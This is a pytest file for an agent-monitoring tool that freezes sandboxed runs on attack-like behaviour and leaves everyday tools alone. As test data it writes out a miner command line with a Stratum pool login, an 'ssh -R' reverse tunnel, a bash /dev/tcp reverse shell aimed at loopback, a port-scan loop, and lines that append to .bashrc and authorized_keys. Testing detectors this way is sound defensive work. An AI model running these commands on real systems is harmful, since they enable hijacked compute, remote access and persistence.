"""Detection and breaker on real programs that look like attacks, and on real tools that are none.

Nothing here attacks anything: the miner is a copy of `true`, the tunnel's client is a script, servers are on loopback.
"""

from __future__ import annotations

import shutil
import stat
from typing import TYPE_CHECKING, Any

import msgspec
import pytest

from jupyter_agentwatch import Watch
from jupyter_agentwatch.cli import main
from jupyter_agentwatch.errors import ControlError, PolicyError
from jupyter_agentwatch.events import BreakerChanged, Connect, Control, Exec, Finding, LimitHit
from tests.outside import IDLE, LONG_S, follow, recorded, wait_for_line
from tests.servers import PRELUDE, Server, network, read_all, rule

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

pytestmark = [pytest.mark.sandbox, pytest.mark.rungs("A", "B")]

WALLET = "4" + "A" * 94
MINER = ["./worker", "-o", "stratum+tcp://pool.example:3333", "-u", WALLET, "--donate-level", "1"]
LOGIN = b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"x","agent":"a"}}\n' % WALLET.encode()


@pytest.fixture
def watched(tmp_path: Path, request: pytest.FixtureRequest) -> Callable[..., Watch]:
    """Make watches, by default of the default policy, in a folder with a harmless program and a harmless script."""
    workspace = tmp_path / "project"
    workspace.mkdir()
    shutil.copy(shutil.which("true") or "/bin/true", workspace / "worker")
    (workspace / "ssh").write_text('#!/bin/sh\necho "not a tunnel"\n')
    (workspace / "ssh").chmod(0o755)

    def make(policy: dict[str, Any] | None = None) -> Watch:
        watch = Watch(policy, workspace)
        request.addfinalizer(watch.close)
        return watch

    return make


def until(watch: Watch, state: str) -> None:
    """Wait until the breaker is in a state: each question is a round of the supervisor's loop."""
    for _ in range(4000):
        if watch.status().state == state and moves(watch)[-1:] and moves(watch)[-1].after == state:
            return
    pytest.fail(f"the watch never was {state}, but {watch.status().state}: {watch.findings()}")


def moves(watch: Watch) -> list[BreakerChanged]:
    """Return every move of the breaker."""
    return recorded(watch, BreakerChanged)


def severe(watch: Watch) -> list[tuple[str, str, str]]:
    """Return (family, rule, title) of the findings at high or above."""
    return [(e.family, e.rule, e.title) for e in recorded(watch, Finding) if e.severity in {"high", "critical"}]


def ran(watch: Watch, name: str) -> list[Exec]:
    """Return the records of a program in the workspace that were found running."""
    return [event for event in recorded(watch, Exec) if event.exe.endswith(f"/{name}")]


def found_running(watch: Watch, name: str) -> list[Exec]:
    """Wait for the records of a program that has run: what it was is written after it has been let go on."""
    for _ in range(4000):
        if found := ran(watch, name):
            return found
        watch.status()
    pytest.fail(f"{name} never ran")


def frozen_by(watch: Watch, family: str) -> Finding:
    """Wait for the freeze, and return the finding that caused it."""
    until(watch, "frozen")
    trip = moves(watch)[-1]
    assert trip.cause.startswith("trip: ")
    (cause, *_) = [event for event in recorded(watch, Finding) if event.seq in trip.evidence]
    assert cause.family == family
    return cause


# Attacks


def test_a_renamed_miner_never_runs(watched: Callable[..., Watch]) -> None:
    """The arguments of a miner freeze the watch before the program runs; a person lets it go on, and then it does."""
    watch = watched()
    running = watch.start(f"echo before; {' '.join(MINER)}; echo after")
    cause = frozen_by(watch, "mining")
    assert cause.severity == "critical"
    assert ran(watch, "worker") == []
    (trip,) = moves(watch)
    assert any("worker" in line for line in trip.processes)
    (held,) = [event for event in recorded(watch, Exec) if event.unconfirmed == "held"]
    assert held.claim_seq in cause.evidence
    with pytest.raises(ControlError, match="frozen"):
        watch.run(["true"])
    watch.resume()
    assert running.wait(LONG_S).stdout == "before\nafter\n"
    assert len(found_running(watch, "worker")) == 1


def test_a_command_that_is_itself_the_miner_is_refused(watched: Callable[..., Watch]) -> None:
    """Where init waits for the exec, it fails, the watch freezes all the same, and a kill leaves nothing."""
    watch = watched()
    result = watch.start(MINER).wait(LONG_S)
    assert (result.outcome, result.exit_code) == ("not-executable", 126)
    frozen_by(watch, "mining")
    assert ran(watch, "worker") == []
    assert watch.kill("mining").survivors == 0
    (incident,) = [each for each in watch.incidents() if each.family == "mining"]
    assert severe(watch) == [("mining", "mining.miner_options", each.title) for each in incident.findings]
    assert incident.prevented == (f"refused before it ran: {' '.join(MINER)}",)


def test_the_rule_stays_armed_after_a_resume(watched: Callable[..., Watch]) -> None:
    """What a person has let go on once freezes the watch again when the next step does it."""
    watch = watched()
    for _ in range(2):
        running = watch.start(f"{' '.join(MINER)}; true")
        frozen_by(watch, "mining")
        watch.resume()
        assert running.wait(LONG_S).ok
    assert [move.after for move in moves(watch)] == ["frozen", "closed"] * 2


def test_a_reverse_tunnel_freezes(watched: Callable[..., Watch]) -> None:
    """`ssh -R`, whatever is behind the name, freezes the watch; its script did not run."""
    watch = watched()
    watch.start("PATH=.:$PATH; ssh -N -R 8022:localhost:22 user@relay.example; true")
    assert frozen_by(watch, "tunnel").rule == "tunnel.ssh_forward"
    assert [event for event in recorded(watch, Exec) if event.exe and "./ssh" in " ".join(event.argv)] == []


def test_a_shell_on_a_socket_is_found(watched: Callable[..., Watch]) -> None:
    """A bash whose standard streams are a connection to a listener inside is a high finding of the shell family."""
    watch = watched()
    program = """
import socket, subprocess, sys
with socket.create_server(("127.0.0.1", 0)) as listening:
    port = listening.getsockname()[1]
    shell = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])
    connection, _ = listening.accept()
    with connection:
        connection.sendall(b"exit\\n")
    shell.wait()
"""
    watch.start(["python3", "-IS", "-c", program])
    until_found(watch, "shell")
    assert "shell" in {family for family, _, _ in severe(watch)}


def until_found(watch: Watch, family: str) -> None:
    """Wait until a family has a finding at high or above."""
    for _ in range(4000):
        if family in {each for each, _, _ in severe(watch)}:
            return
        watch.status()
    pytest.fail(f"no finding of {family}: {watch.findings()}")


def test_probing_of_ports_is_found_and_reaches_nothing(watched: Callable[..., Watch]) -> None:
    """Many ports of a private address: every connect is denied, and the scan is a high finding with its records."""
    watch = watched()
    program = f"""{PRELUDE}
for port in range(1, 60):
    with socket.socket() as s:
        attempt(s.connect, ("10.99.0.7", port))
"""
    assert watch.run(["python3", "-IS", "-c", program]).ok
    scans = [event for event in recorded(watch, Finding) if event.rule == "probing.port_scan"]
    assert {event.severity for event in scans} == {"high"}
    tried = {event.seq for event in recorded(watch, Connect) if event.verdict == "deny"}
    assert len(tried) == 59
    assert set(scans[0].evidence) <= tried
    (incident,) = [each for each in watch.incidents() if each.family == "probing"]
    assert "connect to 10.99.0.7:1 denied" in incident.prevented[0]


def test_a_pool_login_freezes_and_no_byte_of_it_leaves(watched: Callable[..., Watch]) -> None:
    """A Stratum login to a server that the policy allows: the server gets nothing at all, and the watch freezes."""
    with Server(read_all) as pool:
        watch = watched(network(rule(pool.port)))
        program = f"""{PRELUDE}
s = socket.create_connection((HOST, {pool.port}))
s.sendall({LOGIN!r})
s.recv(1)
"""
        watch.start(["python3", "-IS", "-c", program])
        cause = frozen_by(watch, "mining")
        assert cause.rule == "mining.stratum"
        assert pool.wait_said(1) == [b""]
        (named,) = follow(watch, "named")
        assert (named.verdict, named.protocol) == ("deny", "stratum")
        (incident,) = [each for each in watch.incidents() if each.family == "mining"]
        assert any("no byte of it passed" in each for each in incident.prevented)
        assert incident.cost.bytes_out == 0
        (trip,) = moves(watch)
        assert trip.step == 1
        assert any("python3" in line for line in trip.processes)
        # What was held back is kept: a person sees what would have been said.
        (last,) = [line for line in trip.last_bytes if f":{pool.port} " in line]
        assert " ended out '" in last
        assert '"pass":"x"' in last


def test_persistence_is_recorded_as_the_policy_says(watched: Callable[..., Watch]) -> None:
    """A line for a shell's start-up file and a key for logins are findings; they alone do not freeze."""
    watch = watched()
    script = 'mkdir -p ~/.ssh; echo "echo hi" >> ~/.bashrc; echo "ssh-ed25519 AAAA me" >> ~/.ssh/authorized_keys'
    assert watch.run(script).ok
    families = {event.family for event in recorded(watch, Finding)}
    assert "tampering" in families
    assert watch.status().state == "closed"
    assert moves(watch) == []


# What the breaker does


def test_two_families_freeze_together(watched: Callable[..., Watch]) -> None:
    """A high finding of one family warns; one of another in the same window freezes, and both are named."""
    watch = watched()
    assert watch.run("PATH=.:$PATH; cp ssh cloudflared; cloudflared tunnel --url http://localhost:8000").ok
    assert severe(watch)
    assert moves(watch) == []
    program = f"{PRELUDE}\nfor port in range(1, 60): attempt(socket.socket().connect, ('10.99.0.7', port))\n"
    watch.start(["python3", "-IS", "-c", program + "time.sleep(1000)"])
    until(watch, "frozen")
    (trip,) = moves(watch)
    named = {event.family for event in recorded(watch, Finding) if event.seq in trip.evidence}
    assert len(named) == 2


def test_throttled_lets_processes_run_and_no_new_connection_out(watched: Callable[..., Watch]) -> None:
    """Throttled: processes go on, a connect waits, no command starts; a person resumes, and the connect succeeds."""
    breaker = {"freeze_at": "never", "two_families_at": "never", "throttle_at": "critical"}
    with Server(read_all) as server:
        watch = watched(network(rule(server.port)) | {"breaker": breaker})
        program = f"""{PRELUDE}
import subprocess
subprocess.run({MINER!r})
print("lives", flush=True)
s = socket.create_connection((HOST, {server.port}))
s.sendall(b"hello")
s.close()
print("sent", flush=True)
"""
        running = watch.start(["python3", "-IS", "-c", program])
        wait_for_line(running, b"lives")
        until(watch, "throttled")
        with pytest.raises(ControlError, match="throttled"):
            watch.run(["true"])
        assert server.said == []
        watch.resume()
        assert running.wait(LONG_S).ok
        assert server.wait_said(1) == [b"hello"]
    assert [move.after for move in moves(watch)] == ["throttled", "closed"]


def test_nobody_attends_to_it(watched: Callable[..., Watch]) -> None:
    """A tripped watch that nobody attends to is killed when its time is over."""
    watch = watched({"breaker": {"frozen_s": 0.3}})
    running = watch.start(f"{' '.join(MINER)}; {IDLE}")
    assert running.wait(LONG_S).outcome == "killed"
    watch.kill()
    assert [move.after for move in moves(watch)] == ["frozen", "killed"]


def test_somebody_is_told(watched: Callable[..., Watch], tmp_path: Path) -> None:
    """The host's command gets what happened, outside the sandbox, and its end is on record."""
    told = tmp_path / "told"
    command = ["/bin/sh", "-c", f"cat > {told}.part && mv {told}.part {told}"]
    watch = watched({"breaker": {"notify": {"command": command}}})
    watch.start(f"{' '.join(MINER)}; true")
    until(watch, "frozen")
    for _ in range(4000):
        if [event for event in recorded(watch, Control) if event.op == "notify"]:
            break
        watch.status()
    what = msgspec.json.decode(told.read_bytes())
    assert (what["watch"], what["state"], what["cause"]) == (watch.id, "frozen", "trip")
    assert what["evidence"] == moves(watch)[0].evidence


def test_a_budget_of_connections_is_held_to_the_last(watched: Callable[..., Watch]) -> None:
    """The connect after the last that is granted does not leave; a person's word grants more."""
    with Server(read_all) as server:
        watch = watched(network(rule(server.port)) | {"budgets": {"connections": 2}})
        program = f"{PRELUDE}\nfor _ in range(3): socket.create_connection((HOST, {server.port})).close()\n"
        running = watch.start(["python3", "-IS", "-c", program])
        until(watch, "frozen")
        (hit,) = recorded(watch, LimitHit)
        assert (hit.limit, hit.value, hit.maximum) == ("budgets.connections", 3.0, 2.0)
        assert moves(watch)[0].evidence == [hit.seq]
        assert len(server.said) <= 2
        watch.resume()
        assert running.wait(LONG_S).ok
        assert len(server.wait_said(3)) == 3


def test_a_budget_of_bytes_stops_a_flow_that_goes_on(watched: Callable[..., Watch]) -> None:
    """Bytes count while their flow is open."""
    with Server(read_all) as server:
        watch = watched(network(rule(server.port)) | {"budgets": {"bytes_out": 1_000_000}})
        program = f"""{PRELUDE}
s = socket.create_connection((HOST, {server.port}))
while True:
    s.sendall(bytes(65536))
    time.sleep(0.005)
"""
        watch.start(["python3", "-IS", "-c", program])
        until(watch, "frozen")
        (hit,) = recorded(watch, LimitHit)
        assert hit.limit == "budgets.bytes_out"
        assert any(f":{server.port} " in line for line in moves(watch)[0].flows)
        (last,) = [line for line in moves(watch)[0].last_bytes if f":{server.port} " in line]
        assert " open out '" in last
        assert r"\x00\x00" in last
        watch.kill()


def test_a_person_who_suspends_gets_what_stood_still(watched: Callable[..., Watch]) -> None:
    """Processes and connections of that moment are on record, as at a trip."""
    with Server(read_all) as server:
        watch = watched(network(rule(server.port)))
        program = f"""{PRELUDE}
s = socket.create_connection((HOST, {server.port}))
s.sendall(b"GET / HTTP/1.1\\r\\nHost: {{}}\\r\\n\\r\\n".replace(b"{{}}", HOST.encode()))
print("said", flush=True)
s.recv(1)
"""
        running = watch.start(["python3", "-IS", "-c", program])
        wait_for_line(running, b"said")
        watch.suspend()
        until(watch, "frozen")
        (move,) = moves(watch)
        assert move.cause.startswith("person-suspends")
        assert any("python3" in line for line in move.processes)
        assert any(f":{server.port} " in line for line in move.flows)
        watch.kill()


# What a person gets


def test_an_incident_is_one_object(watched: Callable[..., Watch]) -> None:
    """What, when, which step, which processes, what it rests on, what was prevented, and what the breaker did."""
    watch = watched()
    watch.start(f"{' '.join(MINER)}; true")
    until(watch, "frozen")
    (incident,) = watch.incidents()
    assert (incident.watch, incident.step, incident.family, incident.severity) == (watch.id, 1, "mining", "critical")
    assert " ".join(MINER) in incident.command[-1]
    assert incident.shape.startswith("mining: mining.miner_options")
    assert [each.pid for each in incident.ancestry][:1] == [incident.findings[-1].pid]
    assert len(incident.ancestry) >= 2
    assert {event.seq for event in incident.evidence} == {seq for f in incident.findings for seq in f.evidence}
    assert any("held before it ran" in each for each in incident.prevented)
    assert [move.after for move in incident.breaker] == ["frozen"]
    assert incident.ended_wall_ns is not None
    assert 0 <= incident.duration_s < LONG_S
    table = watch.findings("critical")
    assert list(table["rule"]) == ["mining.miner_options"]
    with pytest.raises(ValueError, match="severity"):
        watch.findings("severe")  # type: ignore[arg-type]


def test_a_log_is_replayed_and_hunted(watched: Callable[..., Watch], capfd: pytest.CaptureFixture[str]) -> None:
    """The command line finds in the log what was found live, says so by its exit code, and sees it across logs."""
    watch = watched()
    watch.start(f"PATH=.:$PATH; cp ssh cloudflared; cloudflared tunnel --url http://localhost:8000; {' '.join(MINER)}")
    until(watch, "frozen")
    watch.kill()
    capfd.readouterr()
    assert main(["replay", str(watch.log), "--json"]) == 0, capfd.readouterr().err
    lines = capfd.readouterr().out.splitlines()
    # What the supervisor itself tells of, such as a sampler that ended, is no detector's finding.
    found = [each.rule for each in recorded(watch, Finding) if not each.rule.startswith("agentwatch.")]
    assert [msgspec.json.decode(line)["rule"] for line in lines] == found
    assert main(["hunt", "--rule", "mining", "--json"]) == 0
    rows = msgspec.json.decode(capfd.readouterr().out)
    assert any(watch.id in row["watches"] and row["severity"] == "critical" for row in rows)
    assert main(["hunt", "--text", "no-such-text-anywhere"]) == 1


SIGMA = """
title: A marker word is run
id: 3f0e6d0c-7d4c-4a53-9a0f-1c5f6f0a1b2c
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: marker-word
    condition: selection
level: critical
---
title: Needs what we do not have
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Hashes: abc
    condition: selection
level: high
"""


def test_rules_of_the_users_own_run(
    watched: Callable[..., Watch], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """A Sigma file freezes the watch, a rule that cannot run is named with its line, and the cache gives the same."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "mine.yml").write_text(SIGMA)
    digests, problems = [], []
    for _ in range(2):
        watch = watched({"detect": {"rules": [str(rules)]}})
        (problem,) = watch.rule_problems
        problems.append(problem)
        assert (problem.source, problem.kind, problem.line > 10) == (str(rules / "mine.yml"), "field", True)
        assert any(f"mine.yml:{problem.line}" in note for note in watch.notes)
        watch.start("sh -c 'echo marker-word'; true")
        until(watch, "frozen")
        watch.kill()
        digests.append(watch.events("session")["rules_sha256"].iloc[0])
        capfd.readouterr()
        assert main(["replay", str(watch.log)]) == 0, capfd.readouterr().err
    assert digests[0] == digests[1] != ""
    (kept,) = (tmp_path / "cache").rglob("*.rules")
    assert not kept.stat().st_mode & stat.S_IRWXO & ~0o4
    kept.write_bytes(b"broken")
    assert watched({"detect": {"rules": [str(rules)]}}).rule_problems == (problems[0],) == (problems[1],)


def test_rules_that_the_agent_could_change_are_refused(watched: Callable[..., Watch], tmp_path: Path) -> None:
    """A file of rules in the workspace, also through a link, or none at all, is an error that names the field."""
    workspace = tmp_path / "project"
    (workspace / "mine.yml").write_text(SIGMA)
    (tmp_path / "link.yml").symlink_to(workspace / "mine.yml")
    for path in (workspace / "mine.yml", tmp_path / "link.yml", tmp_path / "none.yml"):
        with pytest.raises(PolicyError, match=r"detect\.rules\[0\]"):
            watched({"detect": {"rules": [str(path)]}})


# Honest work

TRAINING = """
import random
weights = [0.0] * 8
for epoch in range(200):
    for _ in range(20):
        x = [random.random() for _ in weights]
        error = sum(w * v for w, v in zip(weights, x)) - sum(x)
        weights = [w - 0.05 * error * v for w, v in zip(weights, x)]
print(round(sum(weights)))
"""

HONEST = {
    "pip": "python3 -m pip --version",
    "git": "git init -q . && git add -A && git -c user.name=a -c user.email=a@example.org commit -qm one && git log",
    "pytest": "printf 'def test_one():\\n    assert 1 + 1 == 2\\n' > test_one.py && python3 -m pytest -q test_one.py",
    "gcc": "printf 'int main(void){return 0;}' > a.c && gcc -o a a.c && ./a",
    "make": "printf 'all:\\n\\techo made > out\\n' > Makefile && make",
    "training": f"python3 - <<'END'\n{TRAINING}END",
    "hashing": "find /usr/bin -maxdepth 1 -type f | head -50 | xargs sha256sum > sums; sort sums | uniq -c | tail -1",
    "archive": "tar czf all.tgz worker && tar tzf all.tgz && rm all.tgz",
    "server": "python3 -m http.server 8123 >/dev/null 2>&1 & sleep 1; python3 -c 'import urllib.request as u;"
    'u.urlopen("http://127.0.0.1:8123/").read()\'; kill $!',
}
NEEDS = {"gcc": "gcc", "git": "git", "make": "make"}


@pytest.mark.parametrize("tool", list(HONEST))
def test_honest_tools_are_left_alone(watched: Callable[..., Watch], tool: str) -> None:
    """Real runs of everyday tools give no finding at high or above, and stop nothing."""
    if tool in NEEDS:
        assert shutil.which(NEEDS[tool]), f"{tool} is needed for this test"
    watch = watched()
    result = watch.run(HONEST[tool], timeout=60)
    assert result.ok, result.stderr[-2000:]
    assert severe(watch) == []
    assert moves(watch) == []
